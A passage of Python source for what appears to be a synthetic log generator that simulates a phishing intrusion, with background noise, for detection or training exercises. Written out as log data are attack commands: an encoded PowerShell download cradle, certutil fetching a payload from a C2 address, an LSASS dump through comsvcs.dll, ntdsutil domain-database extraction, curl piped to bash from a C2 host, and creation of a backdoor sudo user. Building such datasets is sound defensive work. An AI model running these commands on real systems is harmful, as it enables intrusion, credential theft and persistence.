                f"op={op} acct={_audit_value(who.get('acct', '?'))} "
                f'exe="{who.get("exe", "/usr/sbin/sshd")}" hostname=? addr={who.get("addr", "?")} '
                f"terminal={who.get('terminal', 'ssh')} res={res}"
            )
            body = (
                f"pid={who.get('pid', 1)} uid=0 auid={who.get('auid', _UNSET_ID)} "
                f"ses={who.get('ses', _UNSET_ID)} subj=unconfined msg='{message}'"
            )
            self._audit(when, host, [(kind, body)])

    def _audit_exec(
        self,
        when: datetime,
        host: str,
        args: Sequence[str],
        exe: str,
        *,
        ppid: int,
        auid: int,
        ses: int,
        cwd: str,
        tty: str = "pts0",
    ) -> int:
        """SYSCALL, EXECVE, CWD, PATH and PROCTITLE records of one execve; return the pid."""
        pid = self._pid(host)
        registers = " ".join(f"a{i}={self._hex(12)}" for i in range(3))
        ids = " ".join(f"{name}=0" for name in ("uid", "gid", "euid", "suid", "fsuid", "egid",
                                                 "sgid", "fsgid"))  # fmt: skip
        title = "\x00".join(args)
        proctitle = _audit_value(title) if len(args) == 1 else title.encode().hex().upper()
        arguments = " ".join(f"a{i}={_audit_value(arg)}" for i, arg in enumerate(args))
        inode = self.rng.randrange(10**5, 10**7)
        self._audit(when, host, [
            ("SYSCALL", f"arch=c000003e syscall=59 success=yes exit=0 {registers} a3=0 items=2 "
             f"ppid={ppid} pid={pid} auid={auid} {ids} tty={tty} ses={ses} "
             f"comm=\"{exe.rpartition('/')[2][:15]}\" exe=\"{exe}\" subj=unconfined key=\"exec\""),
            ("EXECVE", f"argc={len(args)} {arguments}"),
            ("CWD", f"cwd={_audit_value(cwd)}"),
            ("PATH", f"item=0 name=\"{exe}\" inode={inode} dev=fd:00 mode=0100755 ouid=0 ogid=0 "
             "rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"),
            ("PROCTITLE", f"proctitle={proctitle}"),
        ])  # fmt: skip
        return pid

    def _cron(self, when: datetime, host: str, user: str, uid: int, command: str) -> None:
        """A cron job: its syslog line, its PAM session in auth.log and its audit records."""
        pid = self._pid(host)
        self.audit_session[host] += 1
        ses = self.audit_session[host]
        self._syslog("syslog", when, host, f"CRON[{pid}]", f"({user}) CMD ({command})")
        opened = f"session opened for user {user}(uid={uid}) by (uid=0)"
        self._syslog("auth", when, host, f"CRON[{pid}]", f"pam_unix(cron:session): {opened}")
        cron: _AuditWho = {"pid": pid, "acct": user, "exe": "/usr/sbin/cron", "terminal": "cron"}
        self._audit_user(when, host, _PAM_ACCOUNT, cron)
        login = f"old-auid={_UNSET_ID} auid={uid} tty=(none) old-ses={_UNSET_ID} ses={ses} res=1"
        self._audit(when, host, [("LOGIN", f"pid={pid} uid=0 subj=unconfined {login}")])
        session: _AuditWho = {**cron, "auid": uid, "ses": ses}
        self._audit_user(when, host, [("USER_START", "PAM:session_open")], session)
        done = self._after(when, 0.3, 2.5)
        closed = f"pam_unix(cron:session): session closed for user {user}"
        self._syslog("auth", done, host, f"CRON[{pid}]", closed)
        self._audit_user(done, host, [("USER_END", "PAM:session_close")], session)

    def _ssh_session(
        self,
        when: datetime,
        host: str,
        user: str,
        uid: int,
        source: str,
        length: float,
        *,
        method: str = "publickey",
    ) -> int:
        """An SSH login that lasts ``length`` seconds; return its audit session."""
        pid, port = self._pid(host), self.rng.randint(32768, 60999)
        self.audit_session[host] += 1
        ses = self.audit_session[host]
        sshd, logind = f"sshd[{pid}]", "systemd-logind[611]"
        key = f": ED25519 SHA256:{self._fingerprint(user)}" if method == "publickey" else ""
        accepted = f"Accepted {method} for {user} from {source} port {port} ssh2{key}"
        opened = f"session opened for user {user}(uid={uid}) by (uid=0)"
        self._syslog("auth", when, host, sshd, accepted, f"pam_unix(sshd:session): {opened}")
        self._syslog("auth", when, host, logind, f"New session {ses} of user {user}.")
        scope = f"Started session-{ses}.scope - Session {ses} of User {user}."
        self._syslog("syslog", when, host, "systemd[1]", scope)
        who: _AuditWho = {"pid": pid, "acct": user, "addr": source}
        self._audit_user(when, host, _PAM_ACCOUNT, who)
        session: _AuditWho = {**who, "auid": uid, "ses": ses, "terminal": "/dev/pts/0"}
        self._audit_user(
            when, host, [("USER_START", "PAM:session_open")], {**who, "auid": uid, "ses": ses}
        )
        self._audit_user(when, host, [("USER_LOGIN", "login")], session)
        bye = when + timedelta(seconds=length)
        self._syslog(
            "auth", bye, host, sshd,
            f"Received disconnect from {source} port {port}:11: disconnected by user",
            f"Disconnected from user {user} {source} port {port}",
            f"pam_unix(sshd:session): session closed for user {user}",
        )  # fmt: skip
        self._syslog("auth", bye, host, logind, f"Session {ses} logged out.")
        self._audit_user(bye, host, [("USER_END", "PAM:session_close"), ("USER_LOGOUT", "logout")],
                         session)  # fmt: skip
        server = BASTION_IP if host == "bastion" else WEB_IP
        sizes = (self.rng.randint(4000, 40000), self.rng.randint(8000, 90000))
        self._conn(when - timedelta(seconds=1), (source, port), (server, 22), "ssh", length, sizes)
        return ses

    def _fingerprint(self, user: str) -> str:
        digest = hashlib.sha256(f"{user}-key".encode()).digest()
        return base64.b64encode(digest).decode().rstrip("=")

    def _sudo(
        self, when: datetime, host: str, user: str, uid: int, command: str, *, ses: int, cwd: str
    ) -> int:
        """A sudo command as auth.log and auditd (USER_CMD) record it; return sudo's pid."""
        pid = self._pid(host)
        self._syslog(
            "auth",
            when,
            host,
            "sudo",
            f"{user:>8} : TTY=pts/0 ; PWD={cwd} ; USER=root ; COMMAND={command}",
        )
        self._syslog(
            "auth",
            when,
            host,
            f"sudo[{pid}]",
            f"pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid={uid})",
        )
        message = (
            f"cwd={_audit_value(cwd)} cmd={command.encode().hex().upper()} "
            'exe="/usr/bin/sudo" terminal=pts/0 res=success'
        )
        self._audit(
            when,
            host,
            [
                (
                    "USER_CMD",
                    f"pid={pid} uid={uid} auid={uid} ses={ses} subj=unconfined msg='{message}'",
                )
            ],
        )
        self._syslog(
            "auth",
            self._after(when, 0.5, 3),
            host,
            f"sudo[{pid}]",
            "pam_unix(sudo:session): session closed for user root",
        )
        return pid

    # -- the story ---------------------------------------------------------------------------
    def anchor(self) -> datetime:
        """When j.doe opens the attachment: mid-morning if the window allows it.

        The story needs about three hours after this moment; beaconing goes on until the end.
        """
        latest = self.end - timedelta(hours=4, minutes=self.rng.uniform(0, 30))
        earliest = self.start + timedelta(hours=1)
        candidate = datetime.combine(latest.date(), time(9, 30), UTC)
        candidate += timedelta(minutes=self.rng.uniform(0, 15))
        if candidate > latest:
            candidate -= timedelta(days=1)
        return candidate if candidate >= earliest else latest

    def phishing(self, at: datetime) -> None:
        """Steps 1 to 3 on WS-ACCT-07: the attachment, its PowerShell, C2 and DGA lookups."""
        host = self.victim
        doc = (f"C:\\Users\\{VICTIM_USER}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\"
               "Content.Outlook\\Q3ZK8N2P\\Invoice_2024-1187.docm")  # fmt: skip
        word_line = f'"{_IMAGES["winword"].path}" /n "{doc}" /o ""'
        word = self._spawn(at, self.victim_session["outlook"], "winword", word_line)
        cradle = (
            f"IEX (New-Object Net.WebClient).DownloadString('https://{LOOKALIKE_DOMAIN}/u.ps1')"
        )
        encoded = base64.b64encode(cradle.encode("utf-16-le")).decode()
        when = self._after(at, 20, 30)
        ps = self._spawn(when, word, "powershell", f"powershell.exe -nop -w hidden -enc {encoded}")
        when = self._after(when, 1, 2)
        self._sysmon_dns(when, ps, LOOKALIKE_DOMAIN, [C2_IP])
        self._dns(when, host.ip, LOOKALIKE_DOMAIN, [C2_IP])
        when, port = self._after(when, 0.2, 0.6), self._port()
        self._sysmon_connect(when, ps, (C2_IP, 443), port)
        signature = (
            f"TOCSIN-DEMO MALWARE TLS SNI Lookalike of a Protected Domain ({LOOKALIKE_DOMAIN})"
        )
        rule = (9100001, signature, "A Network Trojan was detected", 1)
        tls: dict[str, object] = {
            "app_proto": "tls",
            "tls": {"sni": LOOKALIKE_DOMAIN, "version": "TLS 1.2"},
        }
        self._alert(when, (host.ip, port), (C2_IP, 443), "ssl", (2.4, (1650, 48211)), rule, tls)
        when = self._after(when, 20, 40)
        for attempt in range(5):
            length = self.rng.randint(12, 18)
            name = "".join(self.rng.choices("abcdefghijklmnopqrstuvwxyz0123456789", k=length))
            answers = [DGA_IP] if attempt == 4 else []
            self._sysmon_dns(when, ps, f"{name}.top", answers)
            self._dns(when, host.ip, f"{name}.top", answers)
            when = self._after(when, 0.3, 1.5)
        self.beacon(self._after(at, 90, 100))
        self.persistence(self._after(at, 170, 190), ps)
        self.credential_dump(self._after(at, 40 * 60, 45 * 60), ps)

    def persistence(self, when: datetime, ps: _Proc) -> None:
        """Step 2: certutil fetches a.exe, which runs; a scheduled task and a Run key keep it."""
        host = self.victim
        download = f"certutil.exe -urlcache -split -f http://{C2_IP}/a.exe C:\\Users\\Public\\a.exe"
        certutil = self._spawn(when, ps, "certutil", download)
        when, port = self._after(when, 0.3, 0.8), self._port()
        self._sysmon_connect(when, certutil, (C2_IP, 80), port)
        rule = (9100002, "TOCSIN-DEMO POLICY CertUtil URL Agent Downloading a Windows Executable",
                "Potentially Bad Traffic", 2)  # fmt: skip
        http = {"hostname": C2_IP, "url": "/a.exe", "http_user_agent": "CertUtil URL Agent",
                "http_content_type": "application/x-msdownload", "http_method": "GET",
                "protocol": "HTTP/1.1", "status": 200, "length": 73802}  # fmt: skip
        flow = (0.9, (412, 74210))
        self._alert(when, (host.ip, port), (C2_IP, 80), "http", flow, rule,
                    {"app_proto": "http", "http": http})  # fmt: skip
        self._sysmon_file(self._after(when, 0.5, 1), certutil, "C:\\Users\\Public\\a.exe")
        when = self._after(when, 50, 70)
        dropper = self._spawn(when, ps, "dropper", '"C:\\Users\\Public\\a.exe"')
        when, port = self._after(when, 1, 3), self._port()
        self._sysmon_connect(when, dropper, (DGA_IP, 443), port)
        self._conn(when, (host.ip, port), (DGA_IP, 443), "ssl", 1.2, (980, 2240))
        when, task = self._after(when, 40, 80), "OneDriveUpdateCheck"
        create = (f'schtasks.exe /create /tn "{task}" /tr "C:\\Users\\Public\\a.exe" /sc minute '
                  "/mo 30 /f")  # fmt: skip
        schtasks = self._spawn(when, ps, "schtasks", create)
        self._win("security", self._after(when, 0.1, 0.4), host, 4698, {
            "SubjectUserSid": ps.account.sid, "SubjectUserName": VICTIM_USER,
            "SubjectDomainName": NETBIOS_DOMAIN, "SubjectLogonId": ps.logon_id,
            "TaskName": f"\\{task}", "TaskContent": _task_xml(task, when),
            "ClientProcessStartKey": str(self.rng.randrange(10**15, 10**16)),
            "ClientProcessId": str(schtasks.pid), "ParentProcessId": str(ps.pid),
            "RpcCallClientLocality": "0", "FQDN": host.fqdn,
        })  # fmt: skip
        when = self._after(when, 20, 40)
        self._win("sysmon", when, host, 13, {
            "RuleName": "technique_id=T1547.001,technique_name=Registry Run Keys",
            "EventType": "SetValue", "UtcTime": _utc_time(when), "ProcessGuid": ps.guid,
            "ProcessId": str(ps.pid), "Image": ps.image.path,
            "TargetObject": f"HKU\\{ps.account.sid}\\{_RUN_KEY}",
            "Details": "C:\\Users\\Public\\a.exe", "User": ps.account.qualified,
        })  # fmt: skip

    def credential_dump(self, when: datetime, ps: _Proc) -> None:
        """Step 3: rundll32 with comsvcs.dll MiniDump opens LSASS and writes a dump."""
        host = self.victim
        lsass = self._root(host, "lsass", "C:\\Windows\\system32\\lsass.exe")
        dump = (f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass.pid} "
                "C:\\Users\\Public\\lsass.dmp full")  # fmt: skip
        rundll = self._spawn(when, ps, "rundll32", dump, integrity="High")
        when = self._after(when, 0.2, 0.5)
        self._win("sysmon", when, host, 10, {
            "RuleName": "-", "UtcTime": _utc_time(when), "SourceProcessGUID": rundll.guid,
            "SourceProcessId": str(rundll.pid),
            "SourceThreadId": str(self.rng.randrange(1000, 20000, 4)),
            "SourceImage": rundll.image.path, "TargetProcessGUID": lsass.guid,
            "TargetProcessId": str(lsass.pid), "TargetImage": "C:\\Windows\\system32\\lsass.exe",
            "GrantedAccess": "0x1010", "CallTrace": _LSASS_TRACE,
            "SourceUser": rundll.account.qualified, "TargetUser": _SYSTEM.qualified,
        })  # fmt: skip
        self._sysmon_file(self._after(when, 1, 3), rundll, "C:\\Users\\Public\\lsass.dmp")

    def beacon(self, first: datetime) -> None:
        """Step 6: a TLS session to the C2 every 60 s, give or take 6, until the end."""
        when = first
        while when < self.end:
            reply = self.rng.randint(4000, 12000) if self.rng.random() < 0.04 else None
            sizes = (self.rng.randint(380, 620), reply or self.rng.randint(280, 1600))
            duration = self.rng.uniform(0.2, 1.2)
            self._conn(when, (VICTIM_IP, self._port()), (C2_IP, 443), "ssl", duration, sizes)
            when += timedelta(seconds=60 + self.rng.uniform(-6, 6))

    def lateral(self, when: datetime) -> None:
        """Step 4: failed logons, then network logons to DC01, a PsExec service, ntdsutil."""
        dc, source = self.dc, self.victim
        smb = (dc.ip, 445)
        for account, count in ((_user("administrator", 500), self.rng.randint(4, 6)),
                               (_user("svc_backup", 1122), 3)):  # fmt: skip
            for _ in range(count):
                self._logon(when, dc, account, "ntlm", source, failed=True)
                self._conn(when, (source.ip, self._port()), smb, "smb", 0.05, (1400, 800))
                when = self._after(when, 2, 6)
        self._network_logon(when, dc, _user(VICTIM_USER, 1107), "ntlm", source)
        when = self._after(when, 20, 40)
        backup = _user("svc_backup", 1122)
        logon = self._logon(when, dc, backup, "ntlm", source)
        subject = {"SubjectUserSid": backup.sid, "SubjectUserName": backup.name,
                   "SubjectDomainName": backup.domain, "SubjectLogonId": logon}  # fmt: skip
        privileges = ("SeBackupPrivilege", "SeRestorePrivilege", "SeDebugPrivilege")
        self._win("security", when, dc, 4672,
                  {**subject, "PrivilegeList": "\n\t\t\t".join(privileges)})  # fmt: skip
        self._conn(when, (source.ip, self._port()), smb, "smb", 14.2, (402311, 18890))
        when = self._after(when, 3, 6)
        self._win("security", when, dc, 4697, {
            **subject, "ServiceName": "PSEXESVC", "ServiceFileName": "%SystemRoot%\\PSEXESVC.exe",
            "ServiceType": "0x10", "ServiceStartType": "3", "ServiceAccount": "LocalSystem",
        })  # fmt: skip
        self._win("system", when, dc, 7045, {
            "ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
            "ServiceType": "user mode service", "StartType": "demand start",
            "AccountName": "LocalSystem",
        })  # fmt: skip
        services = self._root(dc, "services", "C:\\Windows\\system32\\services.exe")
        when = self._after(when, 0.5, 1)
        psexesvc = self._spawn(when, services, "psexesvc", "C:\\Windows\\PSEXESVC.exe")
        context = replace(services, account=backup, logon_id=logon, integrity="High")
        when = self._after(when, 1, 2)
        cmd = self._spawn(when, psexesvc, "cmd", '"cmd.exe"', context=context)
        ifm = 'ntdsutil.exe "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\ifm" q q'
        for key, line in (("whoami", "whoami /all"), ("ntdsutil", ifm)):
            when = self._after(when, 15, 45)
            self._spawn(when, cmd, key, line)

    def linux_intrusion(self, when: datetime) -> None:
        """Step 5 on bastion: brute force, a login as deploy, curl | bash, a backdoor user."""
        for index in range(self.rng.randint(38, 52)):
            port = self.rng.randint(32768, 60999)
            self._ssh_failure(when, _BRUTE_USERS[index % len(_BRUTE_USERS)], port)
            attempt = (ATTACKER_IP, port), (BASTION_IP, 22)
            if index == 5:
                rule = (9100003, "TOCSIN-DEMO SCAN Possible SSH Brute Force Inbound (threshold)",
                        "Attempted Administrator Privilege Gain", 2)  # fmt: skip
                self._alert(when, *attempt, "ssh", (3.1, (1480, 2210)), rule, {"app_proto": "ssh"})
            else:
                self._conn(when, *attempt, "ssh", 3.1, (1480, 2210))
            when = self._after(when, 4, 14)
        length = self.rng.uniform(600, 900)
        ses = self._ssh_session(
            when, "bastion", "deploy", 1002, ATTACKER_IP, length, method="password"
        )
        self.backdoor(self._after(when, 60, 90), ses)

    def _ssh_failure(self, when: datetime, name: str, port: int) -> None:
        """One wrong password from the attacker, as sshd, PAM and auditd report it."""
        host, pid = "bastion", self._pid("bastion")
        sshd, valid = f"sshd[{pid}]", name in _VALID_LINUX_USERS
        who = name if valid else f"invalid user {name}"
        if not valid:
            self._syslog("auth", when, host, sshd,
                         f"Invalid user {name} from {ATTACKER_IP} port {port}",
                         "pam_unix(sshd:auth): check pass; user unknown")  # fmt: skip
        failure = (
            "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 "
            f"tty=ssh ruser= rhost={ATTACKER_IP}" + (f"  user={name}" if valid else "")
        )
        self._syslog("auth", when, host, sshd, failure)
        when = self._after(when, 1.5, 3)
        failed = f"Failed password for {who} from {ATTACKER_IP} port {port} ssh2"
        self._syslog("auth", when, host, sshd, failed)
        attempt: _AuditWho = {"pid": pid, "acct": name if valid else "(invalid user)",
                              "addr": ATTACKER_IP}  # fmt: skip
        self._audit_user(when, host, [("USER_LOGIN", "login")], attempt, res="failed")
        closed = f"Connection closed by {who} {ATTACKER_IP} port {port} [preauth]"
        self._syslog("auth", self._after(when, 0.1, 0.5), host, sshd, closed)

    def backdoor(self, when: datetime, ses: int) -> None:
        """Step 5, continued: curl | bash under sudo, then useradd, usermod and chpasswd."""
        host, home = "bastion", "/home/deploy"
        script = f"curl -fsSL http://{C2_IP}/x.sh | bash"
        sudo = self._sudo(when, host, "deploy", 1002, f"/usr/bin/bash -c {script}", ses=ses,
                          cwd=home)  # fmt: skip
        run: _ExecWho = {"auid": 1002, "ses": ses, "cwd": home}
        shell = self._audit_exec(when, host, ["/usr/bin/bash", "-c", script], "/usr/bin/bash",
                                 ppid=sudo, **run)  # fmt: skip
        when = self._after(when, 0.01, 0.05)
        self._audit_exec(when, host, ["curl", "-fsSL", f"http://{C2_IP}/x.sh"], "/usr/bin/curl",
                         ppid=shell, **run)  # fmt: skip
        rule = (9100004, "TOCSIN-DEMO TROJAN Shell Script Fetched by curl from a Suspicious Host",
                "A Network Trojan was detected", 1)  # fmt: skip
        http = {"hostname": C2_IP, "url": "/x.sh", "http_user_agent": "curl/7.81.0",
                "http_content_type": "text/x-sh", "http_method": "GET", "protocol": "HTTP/1.1",
                "status": 200, "length": 2048}  # fmt: skip
        self._alert(when, (BASTION_IP, self.rng.randint(32768, 60999)), (C2_IP, 80), "http",
                    (0.4, (160, 2311)), rule, {"app_proto": "http", "http": http})  # fmt: skip
        bash = self._audit_exec(self._after(when, 0.2, 0.4), host, ["bash"], "/usr/bin/bash",
                                ppid=shell, **run)  # fmt: skip
        when = self._after(when, 2, 4)
        args = ["useradd", "-m", "-s", "/bin/bash", BACKDOOR_USER]
        useradd = self._audit_exec(when, host, args, "/usr/sbin/useradd", ppid=bash, **run)
        self._syslog("auth", when, host, f"useradd[{useradd}]",
                     f"new group: name={BACKDOOR_USER}, GID=1003",
                     f"new user: name={BACKDOOR_USER}, UID=1003, GID=1003, "
                     f"home=/home/{BACKDOOR_USER}, shell=/bin/bash, from=/dev/pts/0")  # fmt: skip
        tool: _AuditWho = {"acct": BACKDOOR_USER, "auid": 1002, "ses": ses, "terminal": "pts/0"}
        steps = [("ADD_GROUP", "add-group"), ("ADD_USER", "add-user")]
        self._audit_user(when, host, steps, {**tool, "pid": useradd, "exe": "/usr/sbin/useradd"})
        when = self._after(when, 1, 2)
        args = ["usermod", "-aG", "sudo", BACKDOOR_USER]
        usermod = self._audit_exec(when, host, args, "/usr/sbin/usermod", ppid=bash, **run)
        self._syslog("auth", when, host, f"usermod[{usermod}]",
                     f"add '{BACKDOOR_USER}' to group 'sudo'",
                     f"add '{BACKDOOR_USER}' to shadow group 'sudo'")  # fmt: skip
        steps = [("USER_MGMT", "add-user-to-group")]
        self._audit_user(when, host, steps, {**tool, "pid": usermod, "exe": "/usr/sbin/usermod"})
        when, chpasswd = self._after(when, 1, 2), self._pid(host)
        changed = f"pam_unix(chpasswd:chauthtok): password changed for {BACKDOOR_USER}"
        self._syslog("auth", when, host, f"chpasswd[{chpasswd}]", changed)
        steps = [("USER_CHAUTHTOK", "PAM:chauthtok")]
        self._audit_user(when, host, steps, {**tool, "pid": chpasswd, "exe": "/usr/sbin/chpasswd"})

    # -- background --------------------------------------------------------------------------
    def _workdays(self) -> list[tuple[datetime, datetime]]:
        """Office hours (UTC) of each day that meets the window, with some spread."""
        sessions = []
        day = self.start.date()
        while day <= self.end.date():
            logon = datetime.combine(day, time(7, 30), UTC)
            logoff = datetime.combine(day, time(16, 45), UTC)
            logon += timedelta(minutes=self.rng.uniform(0, 105))
            logoff += timedelta(minutes=self.rng.uniform(0, 105))
            if logoff > self.start and logon < self.end:
                sessions.append((logon, logoff))
            day += timedelta(days=1)
        return sessions

    def workstation(self, host: _WinHost, story: datetime | None) -> None:
        """A workstation's day: its user's sessions, machine noise and web traffic."""
        self.machine_noise(host)
        sessions = self._workdays()
        if story is not None:
            # The victim is at work when the attachment arrives, whatever the hour.
            low, high = story - timedelta(minutes=25), story + timedelta(hours=3)
            overlapping = [s for s in sessions if s[0] < high and s[1] > low]
            sessions = [s for s in sessions if s not in overlapping]
            starts, ends = [low, *(s[0] for s in overlapping)], [high, *(s[1] for s in overlapping)]
            sessions = sorted([*sessions, (min(starts), max(ends))])
        for logon, logoff in sessions:
            procs = self.user_session(host, logon, logoff)
            if story is not None and logon <= story <= logoff:
                self.victim_session = procs

    def user_session(self, host: _WinHost, logon: datetime, logoff: datetime) -> dict[str, _Proc]:
        """Logons, the user's startup programs and what they do until they log off."""
        account = host.user or _SYSTEM
        if self.rng.random() < 0.15:
            self._logon(logon - timedelta(seconds=9), host, account, "interactive", failed=True)
        logon_id = self._logon(logon, host, account, "interactive")
        self._network_logon(self._after(logon, 0.2, 1), self.dc, account, "kerberos", host)
        self._dns(logon, host.ip, f"_ldap._tcp.dc._msdcs.{DOMAIN}", [f"dc01.{DOMAIN}"], qtype="SRV")
        user = self._user_context(host, account, logon_id)
        when = self._after(logon, 1, 3)
        winlogon = self._root(host, "winlogon", "winlogon.exe")
        userinit = self._spawn(when, winlogon, "userinit", f"{_SYS32}userinit.exe", context=user,
                               cwd=_SYS32)  # fmt: skip
        explorer = self._spawn(self._after(when, 1, 2), userinit, "explorer",
                               "C:\\Windows\\Explorer.EXE", cwd=user.cwd)  # fmt: skip
        procs = {"explorer": explorer}
        for key, options in (("onedrive", " /background"),
                             ("teams", " --process-start-reason=AutoStart"), ("outlook", " "),
                             ("chrome", " ")):  # fmt: skip
            when = self._after(when, 4, 90)
            procs[key] = self._spawn(when, explorer, key, f'"{_IMAGES[key].path}"{options}')
        self.session_processes(host, procs, user, when, logoff)
        self.session_web(host, procs, when, logoff)
        when = self._after(logon, 2400, 4800)
        while when < logoff:
            self._network_logon(when, self.dc, account, "kerberos", host)
            when = self._after(when, 2400, 4800)
        self._logoff(logoff, host, account, logon_id, "interactive")
        return procs

    def session_processes(
        self, host: _WinHost, procs: dict[str, _Proc], user: _Proc, when: datetime, end: datetime
    ) -> None:
        """Processes that start while the user works: Chrome tabs, search, Office, Notepad."""
        chrome, explorer = procs["chrome"], procs["explorer"]
        searcher = self._root(host, "searchindexer", f"{_SYS32}SearchIndexer.exe /Embedding")
        dcom = self._root(host, "svchost", f"{_SYS32}svchost.exe -k DcomLaunch -p")
        documents = f"C:\\Users\\{user.account.name}\\Documents"
        client = 1
        when = self._after(when, 60, 600)
        while when < end:
            roll = self.rng.random()
            client += self.rng.randint(1, 4)
            if roll < 0.55:
                ticks = self.rng.randrange(10**9, 10**11)
                self._spawn(
                    when,
                    chrome,
                    "chrome",
                    f'"{chrome.image.path}" --type=renderer --lang=en-US '
                    f"--renderer-client-id={client} --launch-time-ticks={ticks} /prefetch:1",
                )
            elif roll < 0.7:
                self._spawn(
                    when,
                    searcher,
                    "searchprotocolhost",
                    f'"{_SYS32}SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe'
                    f"{client}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{client} 1 -2147483646 "
                    '"Software\\Microsoft\\Windows Search" "DownLevelDaemon"',
                )
            elif roll < 0.85:
                self._spawn(
                    when,
                    dcom,
                    "backgroundtaskhost",
                    f'"{_SYS32}backgroundTaskHost.exe" '
                    "-ServerName:BackgroundTaskHost.WebAccountProvider",
                    context=user,
                )
            elif roll < 0.93:
                self._spawn(
                    when,
                    explorer,
                    "excel",
                    f'"{_IMAGES["excel"].path}" "{documents}\\Q{client % 4 + 1} forecast.xlsx"',
                )
            else:
                self._spawn(
                    when, explorer, "notepad", f'"{_SYS32}notepad.exe" {documents}\\notes.txt'
                )
            when += timedelta(seconds=self.rng.expovariate(1 / 900))

    def session_web(
        self, host: _WinHost, procs: dict[str, _Proc], when: datetime, end: datetime
    ) -> None:
        """Web and Microsoft 365 traffic while the user works."""
        names = [name for name, _owner, _weight in _WEB_DOMAINS]
        weights = [weight for _name, _owner, weight in _WEB_DOMAINS]
        owners = {name: owner for name, owner, _weight in _WEB_DOMAINS}
        when = self._after(when, 30, 300)
        while when < end:
            name = self.rng.choices(names, weights)[0]
            self.web_visit(when, host, procs[owners[name]], name)
            when += timedelta(seconds=self.rng.expovariate(1 / 420))

    def web_visit(self, when: datetime, host: _WinHost, proc: _Proc, name: str) -> None:
        """A DNS lookup and an HTTPS connection, as the sensor and (sometimes) Sysmon see them."""
        address = _domain_ip(name)
        self._dns(when, host.ip, name, [address])
        if self.rng.random() < 0.35:
            self._sysmon_dns(when, proc, name, [address])
        when, port = self._after(when, 0.01, 0.2), self._port()
        if self.rng.random() < 0.1:
            self._sysmon_connect(when, proc, (address, 443), port)
        sizes = (self.rng.randint(900, 9000), self.rng.randint(2000, 400000))
        self._conn(when, (host.ip, port), (address, 443), "ssl", self.rng.uniform(0.3, 60), sizes)

    def machine_noise(self, host: _WinHost) -> None:
        """Service and scheduled-task processes, machine logons and update checks, all day."""
        services = self._root(host, "services", "C:\\Windows\\system32\\services.exe")
        schedule = self._root(host, "svchost", f"{_SYS32}svchost.exe -k netsvcs -p -s Schedule")
        dcom = self._root(host, "svchost", f"{_SYS32}svchost.exe -k DcomLaunch -p")
        choices = (
            (services, "svchost", f"{_SYS32}svchost.exe -k netsvcs -p -s BITS"),
            (services, "svchost", f"{_SYS32}svchost.exe -k LocalService -p -s fdPHost"),
            (services, "svchost", f"{_SYS32}svchost.exe -k wusvcs -p -s WaaSMedicSvc"),
            (schedule, "taskhostw", "taskhostw.exe Install $(Arg0)"),
            (dcom, "wmiprvse", f"{_SYS32}wbem\\wmiprvse.exe -secured -Embedding"),
            (schedule, "mpcmdrun", f'"{_IMAGES["mpcmdrun"].path}" -IdleTask -TaskName '
             "WdCacheMaintenance"),
        )  # fmt: skip
        when = self._after(self.start, 0, 1800)
        while when < self.end:
            parent, key, line = self.rng.choice(choices)
            self._spawn(when, parent, key, line)
            when += timedelta(seconds=self.rng.expovariate(1 / 2400))
        if host is self.dc:
            return
        when = self._after(self.start, 0, 3600)
        while when < self.end:
            self._network_logon(when, self.dc, host.machine, "kerberos", host)
            if self.rng.random() < 0.5:
                name = self.rng.choice(_MACHINE_DOMAINS)
                self.web_visit(self._after(when, 5, 60), host, schedule, name)
            when = self._after(when, 3000, 6600)

    def admin_rdp(self) -> None:
        """The IT admin works on DC01 over RDP once during the day."""
        if len(self.hosts) < 2:
            return
        admin = self.hosts[1]
        account = admin.user or _SYSTEM
        days = self._workdays()
        logon = self._after(days[-1][0], 3600, 7200)
        if logon >= self.end:
            logon = self._after(days[0][0], 3600, 7200)
        logon_id = self._logon(logon, self.dc, account, "rdp", admin)
        length = self.rng.uniform(900, 2400)
        self._logoff(logon + timedelta(seconds=length), self.dc, account, logon_id, "rdp")
        sizes = (self.rng.randint(10**6, 4 * 10**6), self.rng.randint(10**7, 5 * 10**7))
        self._conn(logon, (admin.ip, self._port()), (DC_IP, 3389), "rdp", length, sizes)

    def linux_noise(self) -> None:
        """Cron, timers, ansible and admins on bastion and web01, and web traffic to web01."""
        first_hour = datetime.combine(self.start.date(), time(self.start.hour), UTC)
        for host, address in (("bastion", BASTION_IP), ("web01", WEB_IP)):
            hour = first_hour
            while hour < self.end:
                self._cron(hour + timedelta(minutes=17), host, "root", 0,
                           "   cd / && run-parts --report /etc/cron.hourly")  # fmt: skip
                name = self.rng.choice(_LINUX_DOMAINS)
                self._dns(self._after(hour, 0, 3500), address, name, [_domain_ip(name)])
                if hour.hour == 6:
                    self._apt(self._after(hour, 300, 3000), host, address)
                hour += timedelta(hours=1)
            when = self._after(self.start, 0, 1200)
            while when < self.end:
                self._syslog(
                    "syslog",
                    when,
                    host,
                    "systemd[1]",
                    "Starting sysstat-collect.service - system activity accounting tool...",
                )
                self._syslog(
                    "syslog",
                    self._after(when, 0.05, 0.3),
                    host,
                    "systemd[1]",
                    "sysstat-collect.service: Deactivated successfully.",
                )
                when += timedelta(minutes=20)
        quarter = first_hour
        while quarter < self.end:
            self._cron(quarter, "web01", "www-data", 33,
                       "php /var/www/app/artisan schedule:run >> /dev/null 2>&1")  # fmt: skip
            quarter += timedelta(minutes=15)
        when = self._after(self.start, 0, 3600)
        while when < self.end:
            self.ansible_run(when)
            when = self._after(when, 3300, 3900)
        for logon, logoff in self._workdays():
            for _ in range(2):
                self.ops_session(logon + (logoff - logon) * self.rng.random())
        when = self._after(self.start, 0, 300)
        while when < self.end:
            client = (f"192.0.2.{self.rng.randint(100, 250)}", self.rng.randint(1024, 65535))
            sizes = (self.rng.randint(600, 4000), self.rng.randint(2000, 250000))
            self._conn(when, client, (WEB_IP, 443), "ssl", self.rng.uniform(0.1, 20), sizes)
            when += timedelta(seconds=self.rng.expovariate(1 / 150))

    def ops_session(self, when: datetime) -> None:
        """An administrator checks something on bastion with sudo."""
